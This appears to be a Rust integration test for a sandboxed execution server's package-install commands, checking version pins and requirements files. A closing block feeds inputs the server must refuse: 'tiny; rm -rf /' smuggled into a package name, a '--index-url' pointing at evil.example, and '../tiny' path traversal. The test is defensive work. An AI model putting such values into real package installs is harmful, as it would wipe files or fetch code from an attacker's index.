//! Packages by typed commands.

use serde_json::{Value, json};

use crate::harness::{Client, Place};
use crate::lab::{PIP, Registry, has, open};

fn run(client: &mut Client, session: &str, command: Value) -> Value {
    let result = client.request("session/execute", json!({"sessionId": session, "command": command}));
    client.claim_all(|received| received.message["method"].as_str().is_some_and(|it| it.starts_with("execution/")));
    result
}

/// D3, D14: `install_packages` worked in some places alone, and `packages` of code nowhere.
pub(crate) fn d3_d14_packages_of_commands_are_installed(place: Place) {
    if !has(place, PIP, "python") {
        return;
    }
    let registry = Registry::start();
    let (_directory, mut client, session) = open(place, &registry, json!({}));
    let code = "import tiny; print(tiny.NAME)";
    let ran = run(&mut client, &session, json!({"type": "execute", "code": code, "packages": ["tiny==1.0"]}));
    assert_eq!((&ran["success"], &ran["result"]["stdout"]), (&json!(true), &json!("tiny 1.0\n")), "{ran}");
    client.request("fs/write", json!({"sessionId": session, "path": "pins.txt", "data": "tiny==2.0\n"}));
    for (field, packages) in [("requirementsFile", json!([])), ("requirements_file", json!(["tiny"]))] {
        let mut command = json!({"type": "install_packages", "packages": packages, "global": false, "flags": []});
        command[field] = "pins.txt".into();
        let installed = run(&mut client, &session, command);
        assert_eq!(installed["result"]["packages"], json!([{"name": "tiny", "version": "2.0"}]), "{installed}");
        assert_eq!(installed["result"]["exitCode"], 0, "{installed}");
    }
    let ran = run(&mut client, &session, json!({"type": "execute", "params": {"code": code, "packages": ["needy"]}}));
    assert_eq!(ran["result"]["stdout"], "tiny 1.0\n", "{ran}");
    // What can't be installed is told, and the code does not run.
    for (command, told) in [
        (json!({"type": "execute", "code": "open('ran', 'w')", "packages": ["--index-url=http://evil.example"]}), 1601),
        (json!({"type": "execute", "code": "open('ran', 'w')", "packages": ["unheard-of"]}), 1602),
        (json!({"type": "install_packages", "packages": ["tiny; rm -rf /"]}), 1601),
        (json!({"type": "install_packages", "packages": ["tiny"], "flags": ["--index-url=http://evil.example"]}), 1400),
        (json!({"type": "install_packages", "packages": ["tiny"], "global": true}), 1400),
        (json!({"type": "install_packages", "packages": ["tiny"], "language": "go"}), 1201),
        (json!({"type": "install_packages", "packages": ["../tiny"], "packageManager": "npm"}), 1601),
    ] {
        let refused = run(&mut client, &session, command);
        assert_eq!((&refused["success"], &refused["error"]["code"]), (&json!(false), &json!(told)), "{refused}");
    }
    assert!(client.call("fs/stat", json!({"sessionId": session, "path": "ran"})).is_err(), "it ran");
    let batch = json!([{"type": "install_packages", "packages": ["tiny"]}]);
    let batch = json!({"sessionId": session, "commands": batch, "atomic": true});
    assert_eq!(client.call("session/batch", batch).unwrap_err()["code"], 1400);
}
